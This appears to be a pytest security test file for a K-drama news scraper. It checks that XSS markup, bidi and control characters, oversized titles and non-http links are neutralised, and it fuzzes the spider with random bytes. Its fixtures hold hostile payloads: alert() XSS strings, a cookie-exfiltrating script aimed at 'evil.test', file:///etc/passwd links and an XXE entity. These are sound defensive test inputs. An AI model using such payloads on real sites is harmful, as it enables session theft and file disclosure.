"""Hostile content costs nothing (issue 7): pages whose titles, text, links and authors carry
HTML/JS, bidi overrides, NUL bytes and 10,000-character titles are crawled from the fixture
site, stored as plain text and shown safely by the CLI and in the digest; only http(s) links
are ever stored. Plus what the property and fuzz tests of the pure modules leave out: random
bytes through the spider's own handlers, and URL identity under hostile URLs."""

from __future__ import annotations

import json
import random
import re
import sqlite3
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from scrapy.http import HtmlResponse, Request, Response, TextResponse, XmlResponse
from scrapy.utils.test import get_crawler

from scraper.core.extract import MAX_TITLE_CHARS, Extracted, Rejected, extract
from scraper.core.urls import clean_url, is_http_url, url_key
from scraper.crawler.items import PageItem
from scraper.crawler.spiders.news import NewsSpider
from tests.conftest import dramawatch, make_config
from tests.e2e.test_cli import assert_terminal_safe, call_cli
from tests.site import FAULTS_CONFIG, FixtureSite

F = "http://faults.test"
RLO = "\u202e"
SOURCE = 'Hostile "<script>alert(0)</script>" Outlet'
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def _body(seed: int) -> str:
    """Five paragraphs of text of its own, so that each page is its own story."""
    rng = random.Random(seed)
    words = "fans crew camera scene studio village rain letter melody album stage train".split()
    return "".join(
        "<p>"
        + " ".join(f"The {rng.choice(words)} met the {rng.choice(words)}." for _ in range(12))
        + "</p>"
        for _ in range(5)
    )


def _page(title: str, body: str, head: str = "") -> str:
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>{head}'
        '<meta property="article:published_time" content="{{date:-3h:iso}}"></head>'
        f"<body><main><article><h1>{title}</h1>{body}</article></main></body></html>"
    )


HOSTILE_PAGES = {
    "script": _page(
        "Kim Soo-hyun &lt;script&gt;alert(1)&lt;/script&gt; "
        f"&lt;img src=x onerror=alert(2)&gt; {RLO}gnp.exe",
        "<p>Kim Soo-hyun wrote &lt;script&gt;document.location='http://evil.test/'+document.cookie"
        '&lt;/script&gt; in a fan letter, with <a href="javascript:alert(6)">a link</a> and '
        '<a href="data:text/html,&lt;script&gt;alert(7)&lt;/script&gt;">another</a>.</p>'
        '<script>alert("a real script")</script><img src="x" onerror="alert(8)">' + _body(1),
        '<meta name="author" content="javascript:alert(3)">'
        '<link rel="canonical" href="javascript:alert(5)">',
    ),
    "nul": _page(
        "Queen of Tears\x00 behind\x00 the scenes\x1b[31m in red",
        "<p>Kim Ji-won\x00 and\x00 the crew \x07 rang a bell.</p>" + _body(2),
        '<meta name="author" content="Mina\x00 Cho">'
        '<link rel="canonical" href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    ),
    "long-title": _page(("Kim Ji-won " * 1000).strip(), _body(3)),
    "bidi": _page(
        f"Kim Soo-hyun {RLO}txt.exe\u2066 isolates\u2069 and marks\u200f",
        f"<p>Queen of Tears {RLO}reversed text\u202c and an isolate \u2067RTL\u2069.</p>"
        + _body(4),
        f'<meta name="author" content="{RLO}rohtua">'
        f'<link rel="canonical" href="http://faults.test/hostile/bidi?{RLO}=1">',
    ),
}
HOSTILE_LISTING = (
    "<!doctype html><html><body><main>"
    + "".join(
        f'<article><h2><a href="{href}">Kim Soo-hyun teaser number {n}</a></h2></article>'
        for n, href in enumerate(
            [
                "javascript:alert(1)",
                "data:text/html,<script>alert(2)</script>",
                "vbscript:msgbox(3)",
                "  JaVaScRiPt:alert(4)",
                "/hostile/missing?x=<script>alert(5)</script>",
            ]
        )
    )
    + "</main></body></html>"
)


def _hostile_feed() -> str:
    links = [f"{F}/hostile/{key}" for key in HOSTILE_PAGES] + [
        "javascript:alert(1)",
        "data:text/html,hi",
        "file:///etc/passwd",
    ]
    items = "".join(
        f"<item><title>&lt;script&gt;alert({n})&lt;/script&gt;</title>"
        f"<link>{link.replace('&', '&amp;')}</link><pubDate>{{{{date:-3h}}}}</pubDate></item>"
        for n, link in enumerate(links)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>H</title>'
        f"<link>{F}/</link>{items}</channel></rss>"
    )


@dataclass(frozen=True)
class HostileRun:
    directory: Path
    database: Path
    result: subprocess.CompletedProcess[str]
    requested: list[str]

    @property
    def config(self) -> Path:
        return self.directory / "dramawatch.toml"

    def query(self, sql: str) -> list[tuple[Any, ...]]:
        with sqlite3.connect(self.database) as db:
            return db.execute(sql).fetchall()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileRun]:
    directory = tmp_path_factory.mktemp("hostile")
    config = make_config(directory, base=FAULTS_CONFIG)
    head = config.read_text(encoding="utf-8").split("[[sources]]")[0]
    source = json.dumps(SOURCE)
    config.write_text(
        head + f'[[sources]]\nname = {source}\nfeeds = ["{F}/hostile-feed.xml"]\n'
        f'pages = ["{F}/hostile-listing"]\n',
        encoding="utf-8",
    )
    with FixtureSite() as site:
        for key, html in HOSTILE_PAGES.items():
            site.set_page(f"{F}/hostile/{key}", html)
        site.set_page(
            f"{F}/hostile-feed.xml",
            _hostile_feed(),
            content_type="application/rss+xml; charset=utf-8",
        )
        site.set_page(f"{F}/hostile-listing", HOSTILE_LISTING)
        result = dramawatch(config, "run-once", site=site)
        yield HostileRun(
            directory, directory / "archive.db", result, [r.url for r in site.access_log]
        )


def test_the_run_stores_every_hostile_page(hostile: HostileRun) -> None:
    assert hostile.result.returncode == 0, hostile.result.stderr[-3000:]
    assert "Traceback" not in hostile.result.stderr
    stored = {url for (url,) in hostile.query("SELECT canonical_url FROM articles")}
    assert stored == {f"{F}/hostile/{key}" for key in HOSTILE_PAGES if key != "bidi"} | {
        f"{F}/hostile/bidi?%E2%80%AE=1"
    }


def test_only_http_urls_are_requested_or_stored(hostile: HostileRun) -> None:
    assert all(url.startswith("http://") for url in hostile.requested)
    urls = [
        u
        for (u,) in hostile.query(
            "SELECT url FROM article_urls UNION ALL SELECT canonical_url FROM articles"
        )
    ]
    for url in urls:
        assert is_http_url(url), url
        assert not re.search(r"[\s<>\"\x00-\x1f\u202a-\u202e\u2066-\u2069]", url), url
    errors = [u for (u,) in hostile.query("SELECT url FROM crawl_errors")]
    assert errors == [f"{F}/hostile/missing?x=%3Cscript%3Ealert(5)%3C/script%3E"]


def test_markup_is_stored_as_text_and_nul_bytes_are_stripped(hostile: HostileRun) -> None:
    rows = hostile.query("SELECT canonical_url, title, text, coalesce(author, '') FROM articles")
    for url, title, text, author in rows:
        for value in (title, text, author):
            assert not CONTROL.search(value), (url, value[:200])
        assert 0 < len(title) <= MAX_TITLE_CHARS
    by_url = {url: (title, text, author) for url, title, text, author in rows}
    title, text, author = by_url[f"{F}/hostile/script"]
    assert "<script>document.location='http://evil.test/'+document.cookie</script>" in text
    # the headline shows the characters (escaped in the HTML): text stays text, outputs escape
    assert "<script>alert(1)</script>" in title and "javascript" not in author.lower()
    title, text, author = by_url[f"{F}/hostile/nul"]
    assert title == "Queen of Tears behind the scenes[31m in red"
    assert text.startswith("Kim Ji-won and the crew rang a bell.")
    assert author == "Mina Cho"
    title, _, _ = by_url[f"{F}/hostile/long-title"]
    assert title.endswith("…") and len(title) <= MAX_TITLE_CHARS


def test_cli_table_and_csv_show_no_control_or_bidi_characters(hostile: HostileRun) -> None:
    for fmt in ("table", "csv"):
        result = call_cli(hostile.config, "search", "--format", fmt)
        assert result.code == 0, result
        assert_terminal_safe(result.stdout.replace("\r\n", "\n"))  # CSV rows end in CRLF
    table = call_cli(hostile.config, "search").stdout
    assert table.strip().endswith(f"{len(HOSTILE_PAGES)} article(s)")
    assert max(len(line) for line in table.splitlines()) <= 130, "long titles are cut"


def test_cli_json_is_valid_and_carries_the_stored_text(hostile: HostileRun) -> None:
    result = call_cli(hostile.config, "search", "--format", "json")
    assert result.code == 0, result
    hits = json.loads(result.stdout)
    assert {hit["id"]: hit["title"] for hit in hits} == dict(
        hostile.query("SELECT id, title FROM articles")
    )
    for hit in hits:
        assert all(is_http_url(url) for url in [hit["url"], *hit["urls"]])
        assert hit["source"] == SOURCE


def test_runs_and_status_show_hostile_errors_safely(hostile: HostileRun) -> None:
    for args in (["runs"], ["status"]):
        result = call_cli(hostile.config, *args)
        assert result.code == 0, result
        assert_terminal_safe(result.stdout)


def test_digest_html_carries_no_script_or_foreign_link(hostile: HostileRun) -> None:
    html_path = Path(hostile.result.stdout.strip().splitlines()[-1])
    html = html_path.read_text(encoding="utf-8")
    assert re.search(r"<\s*script", html, re.IGNORECASE) is None
    assert "&lt;script&gt;alert(0)&lt;/script&gt;" in html  # the source name, escaped
    links = _links(html)
    assert f"{F}/hostile/script" in links
    for link in links:
        assert urlsplit(link).scheme in ("http", "https"), link


def _links(html: str) -> list[str]:
    """Every URL-bearing attribute of the page; an event-handler attribute fails the test."""
    found: list[str] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            for name, value in attrs:
                assert not name.startswith("on"), (tag, name, value)
                if name in ("href", "src", "action", "formaction", "poster", "background"):
                    found.append(value or "")

    Collector().feed(html)
    return found


# ---------------------------------------------------------------- random bytes through the spider


@pytest.fixture(scope="module")
def spider() -> NewsSpider:
    crawler = get_crawler(
        NewsSpider, {"DRAMAWATCH_CONFIG": str(FAULTS_CONFIG), "LOG_LEVEL": "ERROR"}
    )
    return NewsSpider.from_crawler(crawler)


_CONTENT_TYPES = st.sampled_from(
    [
        "text/html; charset=utf-8",
        "text/html; charset=euc-kr",
        "text/html; charset=utf-16",
        "text/html; charset=no-such-charset",
        "application/rss+xml",
        "application/xml; charset=latin-1",
        "application/octet-stream",
        "",
    ]
)
_BODIES = st.one_of(
    st.binary(max_size=4096),
    st.lists(
        st.sampled_from(
            [
                b"<?xml version='1.0'?>",
                b"<rss><channel><item><link>",
                b"</link></item>",
                b"<urlset>",
                b"<url><loc>",
                b"</loc></url>",
                b"<sitemapindex>",
                b"<html><body><main><a href='",
                b"javascript:alert(1)",
                b"/k-drama/page/2",
                b"'>Kim Soo-hyun</a>",
                b"\x00",
                b"\xff\xfe",
                b"\xc3\x28",
                b"&#0;",
                b"<![CDATA[",
                b"<!ENTITY x SYSTEM 'file:///etc/passwd'>",
            ]
        ),
        max_size=40,
    ).map(b"".join),
)


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    body=_BODIES,
    content_type=_CONTENT_TYPES,
    kind=st.sampled_from([Response, TextResponse, HtmlResponse, XmlResponse]),
)
def test_random_bytes_never_escape_a_spider_handler(
    spider: NewsSpider, body: bytes, content_type: str, kind: type[Response]
) -> None:
    spider.budget.clear()
    url = f"{F}/fuzzed"
    request = Request(url, meta={"source": "Fault Line"})
    headers = {"Content-Type": content_type} if content_type else {}
    response = kind(url, body=body, headers=headers, request=request)
    for handler in (
        spider.parse_feed,
        spider.parse_sitemap,
        spider.parse_listing,
        spider.parse_article,
    ):
        for output in handler(response):
            if isinstance(output, Request):
                assert output.url.startswith(("http://", "https://")), output.url
            else:
                assert isinstance(output, PageItem)
                result = extract(output.html, output.url)
                assert isinstance(result, (Extracted, Rejected))


# ---------------------------------------------------------------- URL identity, hostile URLs


_SCHEMES = st.sampled_from(
    ["javascript:", "JavaScript:", " javascript:", "data:", "vbscript:", "file:", "mailto:"]
)


@given(
    scheme=_SCHEMES,
    rest=st.text(max_size=60),
    base=st.sampled_from([None, "http://faults.test/a/"]),
)
@settings(max_examples=300)
def test_non_http_links_never_become_http_urls(scheme: str, rest: str, base: str | None) -> None:
    assert not is_http_url(clean_url(scheme + rest, base))


@given(
    name=st.from_regex(r"[a-z]{2,8}", fullmatch=True).filter(
        lambda s: not s.startswith(("utm", "amp"))
    ),
    a=st.from_regex(r"[0-9A-Za-z]{1,8}", fullmatch=True),
    b=st.from_regex(r"[0-9A-Za-z]{1,8}", fullmatch=True),
)
def test_articles_told_apart_by_their_query_stay_apart(name: str, a: str, b: str) -> None:
    """Outlets whose article identity is in the query (articleView.html?idxno=N)."""
    from scraper.core.urls import TRACKING_PARAMS

    if a == b or name in TRACKING_PARAMS:
        return
    base = "http://yeonye.test/news/articleView.html"
    assert url_key(f"{base}?{name}={a}") != url_key(f"{base}?{name}={b}")
